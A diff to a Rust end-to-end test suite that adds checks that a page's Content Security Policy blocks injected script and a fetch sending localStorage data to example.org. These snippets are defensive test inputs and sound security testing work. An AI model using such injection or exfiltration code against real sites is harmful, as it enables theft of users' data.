@@ -2,6 +2,7 @@
 
 use anyhow::Result;
 use e2e::{EMAIL, PASSWORD, Stage};
+use serde_json::json;
 
 #[tokio::test]
 async fn no_password_code_or_token_shows_in_the_console_or_in_an_address() -> Result<()> {
@@ -35,6 +36,8 @@ async fn no_password_code_or_token_shows_in_the_console_or_in_an_address() -> Re
     page.run("console.log('the end of the console')").await?;
     let console = stage.browser.console().await?;
     assert!(console.iter().any(|line| line.contains("the end of")));
+    let refused = |line: &&String| line.contains("Content Security Policy");
+    assert_eq!(console.iter().find(refused), None);
     let history = page.run("return navigation.entries().map((entry) => entry.url)");
     let history: Vec<String> = serde_json::from_value(history.await?)?;
     assert!(history.iter().any(|url| url.ends_with("/auth/login")));
@@ -46,5 +49,24 @@ async fn no_password_code_or_token_shows_in_the_console_or_in_an_address() -> Re
             .cloned();
         assert_eq!(seen, None);
     }
+    Ok(())
+}
+
+#[tokio::test]
+async fn what_somebody_brings_into_the_page_neither_runs_nor_sends_anything_away() -> Result<()> {
+    let stage = Stage::signed_in().await?;
+    let page = &stage.page;
+    let bring_in = "const script = document.createElement('script');
+        script.textContent = 'window.broughtIn = true';
+        document.body.append(script);
+        return Boolean(window.broughtIn)";
+    assert_eq!(page.run(bring_in).await?, json!(false));
+    let send = "return fetch('https://example.org/?' + localStorage.length).then(() => 'sent', () => 'held')";
+    assert_eq!(page.run(send).await?, json!("held"));
+    let console = stage.browser.console().await?;
+    let refused = console
+        .iter()
+        .filter(|line| line.contains("Content Security Policy"));
+    assert!(refused.count() >= 2, "{console:?}");
     Ok(())
 }
